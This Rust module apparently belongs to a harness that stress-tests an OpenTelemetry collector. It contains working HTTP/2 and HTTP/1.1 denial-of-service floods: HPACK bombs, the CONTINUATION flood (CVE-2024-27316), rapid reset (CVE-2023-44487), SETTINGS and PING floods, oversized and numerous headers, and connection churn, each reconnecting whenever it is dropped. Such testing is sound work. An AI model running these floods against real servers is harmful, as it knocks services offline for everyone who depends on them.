//! Connections that send what costs little to send and may cost much to take: headers that unpack, headers without end,
//! streams that are opened and reset at once, frames that ask for an answer. They are paced, as one that is not measures
//! the cores that it takes from everybody; who is thrown out comes back at once.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    time::Duration,
};

use anyhow::Result;
use clap::ValueEnum;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};

use super::Victim;

/// Connections of a flood at a time.
const CONNECTIONS: usize = 8;
/// Bytes that each may send at a time, and the time between two of them: 8 MiB a second together.
const BURST: usize = 10 << 10;
const PAUSE: Duration = Duration::from_millis(10);
/// The preface of HTTP/2 and empty SETTINGS.
const START: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// The path of a request, and the most references of a bomb to its large field.
const PATH: &[u8] = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export";
const REFERENCES: usize = 8000;
/// Kinds of frames (RFC 9113, section 6).
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// What is sent again and again.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Flood {
    /// Requests whose headers name a field of the dynamic table thousands of times.
    HpackBombs,
    /// Pieces of the headers of one request that never end (CVE-2024-27316).
    Continuations,
    /// Requests that are reset as soon as they are opened (CVE-2023-44487).
    Resets,
    /// SETTINGS, each of which is to be acknowledged.
    Settings,
    /// PINGs, each of which is to be answered.
    Pings,
    /// HTTP/1.1 requests with a header of 64 KiB.
    LongHeaders,
    /// HTTP/1.1 requests with 1,000 headers.
    ManyHeaders,
    /// Connections that are closed as soon as they are open.
    Connections,
}

/// A flood that goes on until it is stopped.
#[derive(Debug)]
pub struct Running {
    connections: Arc<AtomicUsize>,
    tasks: JoinSet<()>,
}

impl Flood {
    /// Its name in reports.
    pub fn name(self) -> &'static str {
        match self {
            Flood::HpackBombs => "HPACK bombs",
            Flood::Continuations => "CONTINUATION without end",
            Flood::Resets => "rapid resets",
            Flood::Settings => "SETTINGS",
            Flood::Pings => "PINGs",
            Flood::LongHeaders => "headers of 64 KiB",
            Flood::ManyHeaders => "1,000 headers",
            Flood::Connections => "connections",
        }
    }

    /// Starts it, from the runtime that this is called on.
    pub fn start(self, victim: &Victim) -> Running {
        let target = match self {
            Flood::LongHeaders | Flood::ManyHeaders => victim.http,
            _ => victim.grpc,
        };
        let connections = Arc::new(AtomicUsize::new(0));
        let mut tasks = JoinSet::new();
        for _ in 0..CONNECTIONS {
            let connections = Arc::clone(&connections);
            tasks.spawn(async move {
                loop {
                    connections.fetch_add(1, Ordering::Relaxed);
                    // Whichever end it comes to, it is the victim's doing: the next connection goes on.
                    drop(self.go_on(target).await);
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        Running { connections, tasks }
    }

    /// One connection, until the victim has enough of it.
    async fn go_on(self, target: SocketAddr) -> Result<()> {
        let stream = TcpStream::connect(target).await?;
        if self == Flood::Connections {
            return Ok(());
        }
        let (mut reader, mut writer) = stream.into_split();
        let reading = async move {
            let mut answers = vec![0; 64 << 10];
            while reader.read(&mut answers).await? > 0 {}
            anyhow::Ok(())
        };
        let writing = async move {
            if !matches!(self, Flood::LongHeaders | Flood::ManyHeaders) {
                writer.write_all(START).await?;
            }
            for number in 0_u32.. {
                let mut burst = Vec::with_capacity(2 * BURST);
                let mut step = 0;
                while burst.len() < BURST {
                    self.write_one(number.wrapping_mul(1 << 12).wrapping_add(step), &mut burst);
                    step += 1;
                }
                writer.write_all(&burst).await?;
                tokio::time::sleep(PAUSE).await;
            }
            anyhow::Ok(())
        };
        tokio::select! {
            ended = reading => ended,
            ended = writing => ended,
        }
    }

    /// Appends the `number`th piece of the flood.
    fn write_one(self, number: u32, out: &mut Vec<u8>) {
        // Streams of clients have odd numbers that only grow, and no more than 31 bits.
        let stream = (2 * number + 1) & 0x7fff_ffff;
        match self {
            Flood::HpackBombs => frame(HEADERS, 5, stream, &bomb(), out),
            Flood::Continuations if number == 0 => frame(HEADERS, 0, 1, &request_fields(), out),
            Flood::Continuations => frame(CONTINUATION, 0, 1, &[0x82; 1024], out),
            Flood::Resets => {
                frame(HEADERS, 4, stream, &request_fields(), out);
                frame(RESET, 0, stream, &8_u32.to_be_bytes(), out);
            }
            Flood::Settings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100], out),
            Flood::Pings => frame(PING, 0, 0, &[7; 8], out),
            Flood::LongHeaders => {
                out.extend_from_slice(b"POST /v1/logs HTTP/1.1\r\nHost: a\r\nX-Filler: ");
                out.resize(out.len() + (64 << 10), b'x');
                out.extend_from_slice(b"\r\nContent-Length: 0\r\n\r\n");
            }
            Flood::ManyHeaders => {
                out.extend_from_slice(b"POST /v1/logs HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n");
                out.extend_from_slice(&b"X: 1\r\n".repeat(1000));
                out.extend_from_slice(b"\r\n");
            }
            Flood::Connections => {}
        }
    }
}

impl Running {
    /// Closes its connections. Returns how many there were: more than at first where the victim closed them.
    pub async fn stop(mut self) -> usize {
        self.tasks.shutdown().await;
        self.connections.load(Ordering::Relaxed)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8], out: &mut Vec<u8>) {
    let length = u32::try_from(content.len()).expect("a frame is short").to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(content);
}

/// POST over http to some authority, in HPACK: the request of a client that goes on.
fn request_fields() -> Vec<u8> {
    let path = u8::try_from(PATH.len()).expect("the path is short");
    [&[0x83, 0x86, 0x01, 1, b'x', 0x04, path][..], PATH].concat()
}

/// The same with a field of 100 bytes that enters the dynamic table and is named again and again.
fn bomb() -> Vec<u8> {
    let mut fields = request_fields();
    fields.extend_from_slice(&[0x40, 1, b'x', 100]);
    fields.extend_from_slice(&[b'v'; 100]);
    // 62 is the first place of the dynamic table.
    fields.resize(fields.len() + REFERENCES, 0x80 | 62);
    fields
}
